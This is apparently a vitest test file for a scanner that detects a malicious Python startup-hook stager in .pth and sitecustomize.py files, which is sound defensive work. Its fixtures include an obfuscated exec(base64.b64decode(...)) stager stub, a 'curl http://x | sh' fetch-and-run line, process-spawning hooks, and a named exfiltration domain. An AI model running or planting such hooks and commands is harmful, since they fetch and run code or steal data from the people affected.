import { describe, expect, it } from 'vitest';
import { bundledSignatures, matchSignatures, parseSignatures, SIGNATURE_EXCERPT_CHARS } from './signatures.js';

// The stager's opening as the Sigma rule quotes it, with a blob that holds the rule's second string.
const STAGER = "import os, subprocess, sys; exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M" + 'A'.repeat(400) + "kI2NF9TQ1JJUFQgPSAiYV" + "'))";

const ids = (text: string, target: Parameters<typeof matchSignatures>[1]): string[] => matchSignatures(text, target).map((hit) => hit.signature);

describe('bundled content signatures', () => {
  it('validate, and each names its source, whether it is primary or secondary, and its confidence', () => {
    const signatures = bundledSignatures();

    expect(signatures.length).toBeGreaterThan(5);
    for (const signature of signatures) {
      expect(signature.source.name.length, signature.id).toBeGreaterThan(2);
      expect(['primary', 'secondary'], signature.id).toContain(signature.source.kind);
      expect(['exact', 'heuristic'], signature.id).toContain(signature.confidence);
    }
  });

  it('carry the stager strings of the published Sigma rule', () => {
    const text = JSON.stringify(bundledSignatures());

    expect(text).toContain("exec(base64.b64decode('aW1wb3J0");
    expect(text).toContain('kI2NF9TQ1JJUFQgPSAiYV');
  });
});

describe('matchSignatures', () => {
  it('flags the TeamPCP stager line in a .pth as the exact stager, exec of decoded text and a process start', () => {
    const hits = ids(STAGER, 'pth');

    expect(hits).toEqual(expect.arrayContaining(['teampcp-litellm-stager', 'teampcp-stager-blob', 'exec-of-decoded-text']));
  });

  it('flags the stager in sitecustomize.py on its second line, and quotes a bounded excerpt of that line', () => {
    const hits = matchSignatures(`import sys\n${STAGER}\n`, 'customize');
    const stager = hits.find((hit) => hit.signature === 'teampcp-litellm-stager');

    expect(stager?.line).toBe(2);
    expect(stager?.excerpt).toContain("exec(base64.b64decode('aW1wb3J0");
    expect(stager!.excerpt.length).toBeLessThanOrEqual(SIGNATURE_EXCERPT_CHARS + 2);
  });

  it('needs every string of an all-strings signature: the Sigma opening without the blob is not the exact stager', () => {
    const hits = ids("exec(base64.b64decode('aW1wb3J0IG9z'))", 'customize');

    expect(hits).not.toContain('teampcp-litellm-stager');
    expect(hits).toContain('exec-of-decoded-text');
  });

  it('catches exec of decoded text written other ways (__import__, zlib, b32)', () => {
    expect(ids("exec(__import__('base64').b64decode(b'cHJpbnQoMSk='))", 'pth')).toContain('exec-of-decoded-text');
    expect(ids('exec(zlib.decompress(base64.b64decode(blob)))', 'customize')).toContain('exec-of-decoded-text');
    expect(ids('exec( base64.b32decode(x) )', 'package-file')).toContain('exec-of-decoded-text');
  });

  it('flags a .pth that starts a process, but not in a package file (packages start processes for good reasons)', () => {
    expect(ids('import os; os.system("curl http://x | sh")', 'pth')).toContain('startup-hook-spawns-process');
    expect(ids("import subprocess; subprocess.Popen(['python3', '/tmp/p.py'])", 'pth')).toContain('startup-hook-spawns-process');
    expect(ids("__import__('subprocess').run(['id'])", 'customize')).toContain('startup-hook-spawns-process');
    expect(ids('subprocess.run(["git", "status"])', 'package-file')).toEqual([]);
  });

  it('leaves the .pth files installers write, and a plain sitecustomize.py, alone', () => {
    const benign = [
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); ",
      'import _virtualenv',
      'import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()',
      "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = __import__('importlib.util')",
    ];
    for (const line of benign) expect(ids(line, 'pth'), line).toEqual([]);
    expect(ids('import sys\nimport os\nsys.path.insert(0, os.path.expanduser("~/lib"))\n# os.system is not called here\n', 'customize')).toEqual([]);
  });

  it('finds the payload strings of the wider campaign in a flagged package file', () => {
    const file = 'import requests\nURL = "https://models.litellm.cloud/"\nNAME = "tpcp.tar.gz"\n';

    expect(ids(file, 'package-file')).toEqual(expect.arrayContaining(['litellm-exfil-domain-in-code', 'teampcp-exfil-archive']));
  });
});

describe('parseSignatures', () => {
  const valid = {
    id: 'x-sig',
    title: 'An example',
    severity: 'high',
    confidence: 'exact',
    source: { name: 'Example write-up', kind: 'secondary' },
    targets: ['pth'],
    all: ['evil-string'],
  };

  it('accepts a signature with fixed strings', () => {
    expect(parseSignatures({ schemaVersion: 1, version: '1', signatures: [valid] }, 'x')).toHaveLength(1);
  });

  it('refuses a signature without a source, with both strings and a pattern, or with a pattern that does not compile', () => {
    const { source: _source, ...noSource } = valid;
    expect(() => parseSignatures({ schemaVersion: 1, version: '1', signatures: [noSource] }, 'x')).toThrow(/source/);
    expect(() => parseSignatures({ schemaVersion: 1, version: '1', signatures: [{ ...valid, pattern: 'abcd', needles: ['ab'] }] }, 'x')).toThrow(/exactly one/);
    expect(() => parseSignatures({ schemaVersion: 1, version: '1', signatures: [{ ...valid, all: undefined, pattern: '(unclosed', needles: ['un'] }] }, 'x')).toThrow(/regular expression/);
  });
});
